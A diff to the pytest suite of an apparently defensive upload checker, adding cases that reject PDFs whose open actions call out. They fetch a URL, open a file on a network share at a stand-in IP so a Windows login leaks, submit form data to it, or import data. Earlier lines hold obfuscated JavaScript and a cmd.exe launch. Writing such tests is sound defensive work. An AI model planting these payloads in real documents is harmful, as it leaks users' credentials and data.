@@ -259,8 +259,14 @@ def test_pdf_rules() -> None:
         (packed_pdf(b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"), "pdf_script"),
         (packed_pdf(b"<< /S /Launch /F (cmd.exe) >>"), "pdf_embedded"),
         (packed_pdf(b"[3 0 R /Fit]", page=b"/AA << /O 4 0 R >>"), "pdf_script"),
+        # Opening the file calls a web address, a file on a network share (a Windows login leaks), or sends data.
+        (packed_pdf(b"<< /S /URI /URI (http://198.51.100.7/seen) >>"), "pdf_script"),
+        (packed_pdf(b"<< /S /GoToR /F (\\\\198.51.100.7\\share\\x.pdf) /D [0 /Fit] >>"), "pdf_script"),
+        (packed_pdf(b"<< /S /SubmitForm /F (http://198.51.100.7/) >>"), "pdf_script"),
+        (packed_pdf(b"<< /S /ImportData /F (data.fdf) >>"), "pdf_script"),
     ],
-    ids=["javascript", "attachment", "packed-escaped-javascript", "launch", "page-open-action"],
+    ids=["javascript", "attachment", "packed-escaped-javascript", "launch", "page-open-action", "open-uri",
+         "open-remote-file", "open-submit", "open-import"],
 )
 def test_pdf_with_scripts_or_files_refused(raw: bytes, code: str) -> None:
     with pytest.raises(UploadRejected) as info:
@@ -273,6 +279,11 @@ def test_pdf_opening_on_a_page_and_owner_restrictions_are_fine() -> None:
     from pypdf import PdfWriter
 
     assert check_upload(packed_pdf(b"[3 0 R /Fit]"), "a.pdf", accept=("pdf",)).mime == "application/pdf"
+    going_to_a_page = packed_pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>")
+    assert check_upload(going_to_a_page, "a.pdf", accept=("pdf",)).mime == "application/pdf"
+    # A link the reader must click (a /URI action in a link annotation) is an ordinary document.
+    link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.cn) >> >>]"
+    assert check_upload(packed_pdf(b"[3 0 R /Fit]", page=link), "a.pdf", accept=("pdf",)).mime == "application/pdf"
     for user_password, expected in (("", None), ("secret", "pdf_locked")):
         writer = PdfWriter()
         writer.add_blank_page(100, 100)
